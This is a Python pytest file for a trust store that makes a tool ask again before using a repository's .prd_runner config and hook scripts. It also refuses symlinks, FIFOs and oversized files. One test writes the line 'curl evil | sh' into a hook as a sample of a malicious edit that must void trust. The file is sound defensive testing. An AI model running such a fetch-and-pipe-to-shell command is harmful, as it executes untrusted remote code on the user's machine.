"""A10: nothing of a repository's .prd_runner counts before the person agreed to exactly that."""

from __future__ import annotations

import json
import os
import threading
from pathlib import Path

import pytest

from prdrunner_tui.config.trust import TrustStore, inventory, shipped_inventory_hashes
from prdrunner_tui.text.problem import Problem


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / ".prd_runner" / "hooks").mkdir(parents=True)
    (root / ".prd_runner" / "config.yaml").write_text("loop: {}\n")
    (root / ".prd_runner" / "hooks" / "after.sh").write_text("echo hi\n")
    return root


def test_the_inventory_names_each_file_and_what_it_can_do(repo: Path) -> None:
    found = inventory(repo)
    assert [(entry.path.to_json(), entry.does) for entry in found.entries] == [
        (".prd_runner/config.yaml", "names commands that run, workers, limits and gates"),
        (".prd_runner/hooks/after.sh", "runs programs at steps of the run"),
    ]
    assert inventory(repo) == found


def test_every_change_asks_again(repo: Path, tmp_path: Path) -> None:
    store = TrustStore(tmp_path / "data" / "trust.json")
    hook = repo / ".prd_runner" / "hooks" / "after.sh"
    first = inventory(repo)
    assert not store.is_trusted("repo-1", first)
    store.trust("repo-1", first)
    assert store.is_trusted("repo-1", first)
    assert not store.is_trusted("repo-2", first)
    changes = (
        lambda: hook.write_text("curl evil | sh\n"),
        lambda: (hook.write_text("echo hi\n"), hook.chmod(0o755)),
        lambda: (hook.chmod(0o644), hook.rename(hook.with_name("before.sh"))),
        lambda: (repo / ".prd_runner" / "new").write_text(""),
    )
    for change in changes:
        change()
        assert not store.is_trusted("repo-1", inventory(repo))
    store.trust("repo-1", inventory(repo))
    assert store.is_trusted("repo-1", inventory(repo))
    assert store.untrust("repo-1")
    assert not store.untrust("repo-1")
    assert not store.is_trusted("repo-1", inventory(repo))


def test_a_repository_without_anything_needs_no_trust(tmp_path: Path) -> None:
    assert TrustStore(tmp_path / "t.json").is_trusted("r", inventory(tmp_path))


def test_links_out_devices_and_giants_are_refused(repo: Path, tmp_path: Path) -> None:
    place = repo / ".prd_runner" / "x"
    (tmp_path / "outside").write_text("x")
    for make in (
        lambda: place.symlink_to(tmp_path / "outside"),
        lambda: place.symlink_to("../../outside"),
        lambda: place.symlink_to("nowhere"),
        lambda: os.mkfifo(place),
        lambda: place.write_bytes(b"a" * 5_000_001),
    ):
        make()
        with pytest.raises(Problem) as caught:
            inventory(repo)
        assert caught.value.where == ".prd_runner/x"
        place.unlink()
    place.symlink_to("config.yaml")
    assert len(inventory(repo).entries) == 3


def test_a_directory_that_is_a_link_is_refused(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / ".prd_runner").symlink_to("elsewhere")
    with pytest.raises(Problem):
        inventory(tmp_path)


def test_pins_are_private_and_never_half_written(repo: Path, tmp_path: Path) -> None:
    path = tmp_path / "data" / "trust.json"
    stores = [TrustStore(path) for _ in range(8)]
    found = inventory(repo)
    threads = [
        threading.Thread(target=store.trust, args=(f"repo-{n}", found)) for n, store in enumerate(stores)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(json.loads(path.read_text())["pins"]) == 8
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize("content", ["", "[]", "{", '{"pins": 5}', "[" * 5000])
def test_a_broken_or_shared_pin_file_trusts_nobody(repo: Path, tmp_path: Path, content: str) -> None:
    path = tmp_path / "trust.json"
    store = TrustStore(path)
    store.trust("r", inventory(repo))
    path.chmod(0o666)
    with pytest.raises(Problem, match="written by others"):
        store.is_trusted("r", inventory(repo))
    path.write_text(content)
    path.chmod(0o600)
    with pytest.raises(Problem, match="cannot be read"):
        store.is_trusted("r", inventory(repo))


def test_our_samples_are_known_by_what_is_installed(repo: Path, tmp_path: Path) -> None:
    samples = tmp_path / "samples"
    samples.mkdir()
    repo.rename(samples / "one")
    (samples / "plain").mkdir()
    assert shipped_inventory_hashes(samples) == {inventory(samples / "one").hash}
    assert shipped_inventory_hashes(tmp_path / "absent") == frozenset()
